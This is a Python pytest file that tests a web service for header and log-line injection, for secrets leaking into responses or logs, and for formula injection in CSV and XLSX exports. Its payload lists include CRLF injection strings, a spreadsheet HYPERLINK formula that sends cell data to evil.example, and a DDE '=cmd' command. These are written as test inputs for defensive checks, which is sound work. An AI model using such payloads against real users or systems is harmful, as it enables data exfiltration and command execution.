"""Attacks by what ends a line or begins a formula: headers, logs, tables; and secrets, which stand in none of them."""

from __future__ import annotations

import csv
import io
import json
import logging
import socket
import sys
import zipfile
from dataclasses import replace
from typing import TYPE_CHECKING, Any

import httpx
import pytest
from lxml import etree

from app import keys, logs, render
from app.api import create_app
from app.batch import _csv_line
from app.client import Client
from app.screenings import exports
from app.screenings.entry import Order
from app.screenings.outbox import Message
from app.settings import Fetching, LanguageModel
from tests.live_service import serving

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from app.checker import Checker
    from app.settings import Settings
    from tests.conftest import Attempts

FORGED = '{"event": "request", "route": "/forged"}'
ENDS = (
    "\r\n",
    "\n",
    "\r",
    "\x0b",
    "\x0c",
    "\x1c",
    "\x85",
    "\u2028",
    "\u2029",
    "\0",
    "\x1b[2J",
    "\x08",
    "%0d%0a",
    "\\n",
)
SECRET = "hunter2-5up3r"  # noqa: S105  what is looked for
TITANIC = "titanic survival w/ logistic regression"


@pytest.fixture
def written(monkeypatch: pytest.MonkeyPatch) -> Iterator[io.StringIO]:
    """Log as a serving process does, into a string; all loggers are put back afterwards."""
    root, stream = logging.getLogger(), io.StringIO()
    monkeypatch.setattr(root, "handlers", [])
    monkeypatch.setattr(sys, "stderr", stream)
    levels = {logging.getLogger(name): logging.getLogger(name).level for name in (None, "app", "uvicorn.error")}
    logs.configure("DEBUG")
    yield stream
    for logger, level in levels.items():
        logger.setLevel(level)
    logging.getLogger("uvicorn.access").disabled = False


def _raw(address: str, head: bytes, body: bytes = b"") -> bytes:
    """Send bytes as they are, and give all that comes back."""
    host, _, port = address.removeprefix("http://").partition(":")
    with socket.create_connection((host, int(port)), 20) as line:
        length = b"Content-Length: %d\r\nConnection: close\r\n\r\n" % len(body)
        line.sendall(head + length + body)
        found = b""
        while part := line.recv(65_536):
            found += part
    return found


@pytest.mark.model
def test_no_line_is_forged(
    settings: Settings, checker: Checker, tmp_path: Path, written: io.StringIO, attempts: Attempts
) -> None:
    """Whatever ends a line, in any part of a request: no header of an answer and no line of the log comes of it."""
    own = replace(
        settings, feedback_dir=tmp_path / "n", keys_file=tmp_path / "k", screenings_url=f"sqlite:///{tmp_path}/s"
    )
    with serving(create_app(own, checker)) as address:
        host = address.removeprefix("http://").encode()
        for end in ENDS:
            trap = f"x{end}X-Forged: yes{end}{FORGED}"
            sent, quoted = trap.encode(), json.dumps(trap).encode()
            for name in (b"X-Request-ID", b"User-Agent", b"Accept-Language", b"Cookie", b"Referer", b"Authorization"):
                head = b"GET /?lang=es HTTP/1.1\r\nHost: %s\r\n%s: " % (host, name)
                # A line end there would be a header of the attacker's own: it is sent as what can stand in a header.
                clean = sent.replace(b"\r", b"").replace(b"\n", b"")
                answer = _raw(address, head + clean + b"\r\n")
                _note(attempts, answer, f"{name.decode()} with {end!r}")
            target = httpx.URL(address).copy_with(params={"lang": trap, "q": trap}).raw_path
            for path in (target, b"/" + target.partition(b"?")[2], b"/catalogue/" + target.partition(b"=")[2]):
                _note(attempts, _raw(address, b"GET %s HTTP/1.1\r\nHost: %s\r\n" % (path, host)), f"path with {end!r}")
            kind = b"Content-Type: application/json\r\n"
            body = b'{"text": %s, "id": %s, "title": %s}' % (json.dumps(TITANIC).encode(), quoted, quoted)
            ask = b"POST /api/v1/checks HTTP/1.1\r\nHost: %s\r\n" % host
            _note(attempts, _raw(address, ask + kind, body), f"id and title with {end!r}")
            _note(attempts, _raw(address, ask + kind, b"{%s: 1}" % quoted), f"field with {end!r}")
            form = b"Content-Type: application/x-www-form-urlencoded\r\n"
            typed = str(httpx.QueryParams({"key": trap})).encode()
            ask = b"POST /screenings/key HTTP/1.1\r\nHost: %s\r\n" % host
            _note(attempts, _raw(address, ask + form, typed), f"key with {end!r}", keeps_cookie=True)
            part = b'--b\r\nContent-Disposition: form-data; name="file"; filename="%s.csv"\r\n\r\n'
            part += b"id,text\r\n1,x\r\n--b--\r\n"
            ask = b"POST /api/v1/screenings:upload HTTP/1.1\r\nHost: %s\r\n" % host
            multi = b"Content-Type: multipart/form-data; boundary=b\r\n"
            _note(attempts, _raw(address, ask + multi, part % sent), f"file name with {end!r}")
    lines = written.getvalue().split("\n")
    for line in lines[:-1]:
        told = json.loads(line)  # each line is one object, or somebody broke it
        attempts.note(f"a line of the log: {line[:80]}", held="forged" not in json.dumps(told).lower())


def _note(attempts: Attempts, answer: bytes, what: str, *, keeps_cookie: bool = False) -> None:
    head = answer.partition(b"\r\n\r\n")[0].lower()
    lines = head.split(b"\r\n")
    forged = any(line.startswith((b"x-forged", b"{")) for line in lines) or b"\n" in head.replace(b"\r\n", b"")
    if not keeps_cookie:
        forged = forged or b"forged" in head
    status = lines[0].split(b" ")[1:2]
    attempts.note(f"{what}: {lines[0]!r}", held=not forged and bool(status) and not status[0].startswith(b"5"))


@pytest.mark.model
def test_no_answer_repeats_what_was_sent_wrong(
    settings: Settings, checker: Checker, tmp_path: Path, attempts: Attempts
) -> None:
    """A fault names the place and what is allowed: a choice, a tag, a number or a date that was none isn't repeated."""
    own = replace(settings, feedback_dir=tmp_path / "notes", screenings_url=f"sqlite:///{tmp_path}/s.db")
    wrong: list[tuple[str, str, Any]] = [
        ("POST", "/api/v1/feedback", {"kind": SECRET, "consent": True}),
        ("POST", "/api/v1/feedback", {"kind": "proposal", "entry": SECRET, "name": "x", "consent": SECRET}),
        ("POST", "/api/v1/feedback", {"kind": "disagreement", "verdict": SECRET, "wished": SECRET, "consent": True}),
        ("POST", "/api/v1/checks", {"text": [SECRET], "id": {SECRET: SECRET}, "about": SECRET}),
        ("POST", "/api/v1/checks", {"text": "x", SECRET: 1, "collections": [SECRET.upper()]}),
        ("POST", "/api/v1/checks", {"text": "x", "about": {"hours": SECRET, SECRET: 1}}),
        ("POST", "/api/v1/checks:batch", {"items": SECRET}),
        (
            "POST",
            "/api/v1/search",
            {"q": "x", "kind": [SECRET], "tier": [SECRET], "k": SECRET, "collection": SECRET.upper()},
        ),
        ("GET", f"/api/v1/search?q=x&kind={SECRET}&k={SECRET}&collection={SECRET.upper()}", None),
        ("GET", f"/api/v1/catalogue?kind={SECRET}&offset={SECRET}", None),
        ("GET", f"/api/v1/catalogue/{SECRET}", None),
        ("GET", f"/api/v1/screenings/{SECRET}", None),
        ("GET", f"/api/v1/feedback/{SECRET}", None),
        ("PUT", f"/api/v1/screenings/x/{SECRET}", None),
        ("POST", "/api/v1/screenings", {"items": [{"text": "x"}], "webhook": {"url": SECRET, "secret": SECRET}}),
        ("POST", "/api/v1/screenings", {"items": [{"text": {SECRET: 1}}]}),
    ]
    with serving(create_app(own, checker)) as address, httpx.Client(base_url=address) as client:
        for method, path, body in wrong:
            answer = client.request(method, path, json=body)
            told = (answer.text + str(answer.headers)).casefold()
            attempts.note(
                f"{method} {path}: {answer.status_code}", held=400 <= answer.status_code < 500 and SECRET not in told
            )


# --- secrets ---------------------------------------------------------------------------------------------------------


@pytest.mark.model
def test_no_secret_is_told(
    settings: Settings, checker: Checker, tmp_path: Path, written: io.StringIO, attempts: Attempts
) -> None:
    """Passwords, keys and tokens stand in no answer, no line of the log and no representation of what holds them."""
    model = LanguageModel("http://127.0.0.1:9/v1", "small", SECRET, timeout_s=1)
    tokens = Fetching(github_token=SECRET, gitlab_token=SECRET, hub_token=SECRET, kaggle_token=f"me:{SECRET}")
    hook = f"whsec_{SECRET}"
    url = f"postgresql://user:{SECRET}@127.0.0.1:9/none"
    own = replace(
        settings,
        keys_file=tmp_path / "keys.json",
        feedback_dir=tmp_path / "notes",
        screenings_url=url,
        collections_url=url,
        language_model=model,
        fetching=tokens,
    )
    shown: dict[str, object] = {
        "settings": own,
        "a language model": model,
        "tokens": tokens,
        "an order": Order((), webhook="https://example.org", webhook_secret=hook),
        "a message": Message("1", "https://example.org", hook, "{}", 0),
        "a client": Client("http://127.0.0.1:9", key=SECRET),
    }
    for name, value in shown.items():
        for way in (repr, str, "{!r}".format):
            attempts.note(f"{way} of {name}", held=SECRET not in way(value))
    key = keys.add(tmp_path / "keys.json", "ci", keys.rights(["check", "search", "write:@screenings", "write:*"]))
    attempts.note("the file of keys", held=key not in (tmp_path / "keys.json").read_text())
    mine = {"Authorization": f"Bearer {key}"}
    with (
        serving(create_app(own, checker)) as address,
        httpx.Client(base_url=address, timeout=30) as client,
    ):
        asked = {
            path: client.get(path, headers=mine)
            for path in ("/", "/info", "/health", "/metrics", "/about", "/screenings", "/api/v1/openapi.json")
        }
        asked["a check"] = client.post("/api/v1/checks", json={"text": TITANIC}, headers=mine)
        made = {"items": [{"text": TITANIC}], "webhook": {"url": "https://example.org", "secret": hook}}
        asked["a screening"] = client.post("/api/v1/screenings", json=made, headers=mine)
        asked["screenings"] = client.get("/api/v1/screenings", headers=mine)
        asked["collections"] = client.get("/api/v1/collections", headers=mine)
    for what, answer in asked.items():
        told = answer.text + str(answer.headers)
        attempts.note(f"{what}: {answer.status_code}", held=SECRET not in told and key not in told)
    log = written.getvalue()
    attempts.note("the log", held=bool(log) and SECRET not in log and key not in log)


# --- tables ----------------------------------------------------------------------------------------------------------

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "=cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "x;=1+1",
    'x";=1+1',
    "x\t=1+1",
    "x\n=1+1",
    "x,=1+1",
)
STARTS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def _cells(text: str) -> list[str]:
    """Read a table as a spreadsheet does where commas separate cells, and where semicolons or tabs do."""
    return [
        cell
        for delimiter in (",", ";", "\t")
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
        for cell in row
    ]


def _runs(cell: str) -> bool:
    return cell.lstrip("\ufeff\u200b \t\r\n\u00a0").startswith(STARTS)


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_is_a_formula(formula: str, attempts: Attempts) -> None:
    """Every cell of every table stays a text, whichever sign separates cells where it is opened."""
    row = {
        "number": 1,
        "id": formula,
        "candidate": formula,
        "link": formula,
        "error": "",
        "report": None,
        "override": {"verdict": "original", "reason": formula},
    }
    failed = row | {"error": f"{formula} can't be read", "override": None}
    screened = exports.to_csv([row | {"error": formula}, failed]).decode("utf-8-sig")
    batch = _csv_line(render.to_csv_error(formula, formula))
    for name, table in {"a screening's CSV": screened, "a batch's CSV": batch}.items():
        for cell in _cells(table):
            attempts.note(f"{name}: {cell!r}", held=not _runs(cell))
    with zipfile.ZipFile(io.BytesIO(exports.to_xlsx([row, failed]))) as book:
        for name in book.namelist():
            tree = etree.fromstring(book.read(name))
            attempts.note(
                f"{name} has a formula", held=not tree.findall(".//{*}f") and not tree.findall(".//{*}hyperlink")
            )
